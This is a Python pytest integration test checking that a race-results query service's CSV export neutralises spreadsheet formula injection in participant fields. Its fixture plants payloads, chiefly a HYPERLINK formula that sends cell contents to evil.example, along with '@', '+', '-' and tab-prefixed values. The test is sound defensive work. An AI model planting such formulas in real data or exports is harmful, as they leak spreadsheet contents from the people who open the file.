"""An entrant's name that is a spreadsheet formula, downloaded as CSV through the real service."""

from __future__ import annotations

import csv
import io

import pytest
import requests

from tests.conftest import fresh_database, query, stop_process
from tests.integration.nlq_service import PARTNER_A, SMALL_KEYS, small_results_db, start_service

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your results")'
QUESTION = "Generate CSV of finishers with contact info"


@pytest.fixture(scope="module")
def service(pg, tmp_path_factory):
    workdir = tmp_path_factory.mktemp("nlq-csv")
    db = small_results_db(pg, "nlq_csv", workdir)
    # What an entrant can type into a registration form, as provider_sync would store it.
    query(
        db["dsn"],
        "INSERT INTO ct_participants (id, race_id, event_id, timing_partner_id, bib, first_name,"
        " last_name, sex, age, city, email, phone) VALUES"
        " (103, 11, 10, %s, '103', %s, '@SUM(A1:A9)', 'F', 29, '+1 Town', '-x@evil.example',"
        " E'\\t=1+2')",
        (PARTNER_A, HYPERLINK),
    )
    query(
        db["dsn"],
        "INSERT INTO ct_results (id, participant_id, race_id, event_id, timing_partner_id,"
        " chip_time, overall_place) VALUES (103, 103, 11, 10, %s, '3:20:00', 3)",
        (PARTNER_A,),
    )
    proc, svc = start_service(db, fresh_database(pg), workdir, P88_NLQ_LLM="off")
    yield svc
    stop_process(proc)


def ask(service, fmt: str) -> requests.Response:
    response = requests.post(
        f"{service['url']}/api/v1/nl-query?format={fmt}",
        headers={"X-API-Key": SMALL_KEYS["a"]},
        json={"question": QUESTION},
        timeout=30,
    )
    assert response.status_code == 200, response.text
    return response


def test_formula_cells_are_neutralised_in_the_download(service):
    response = ask(service, "csv")
    assert response.headers["Content-Type"].startswith("text/csv")
    text = response.text
    # Quoted, inner quotes doubled, a single quote first: text to any spreadsheet.
    assert '"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click for your results"")"' in text
    rows = list(csv.DictReader(io.StringIO(text)))
    (evil,) = [r for r in rows if r["bib"] == "103"]
    assert evil["first_name"] == "'" + HYPERLINK
    assert (evil["last_name"], evil["city"]) == ("'@SUM(A1:A9)", "'+1 Town")
    assert (evil["email"], evil["phone"]) == ("'-x@evil.example", "'\t=1+2")
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row
    ordinary = next(r for r in rows if r["bib"] == "101")
    assert (ordinary["first_name"], ordinary["chip_time"]) == ("Ann", "2:55:01")


def test_numbers_stay_numbers_and_json_is_untouched(service):
    line = next(line for line in ask(service, "csv").text.splitlines() if '"103"' in line)
    assert ",29," in line and ",3," in line  # age and place: unquoted numbers
    body = ask(service, "json").json()
    people = {row[body["columns"].index("bib")]: row for row in body["rows"]}
    assert people["103"][body["columns"].index("first_name")] == HYPERLINK
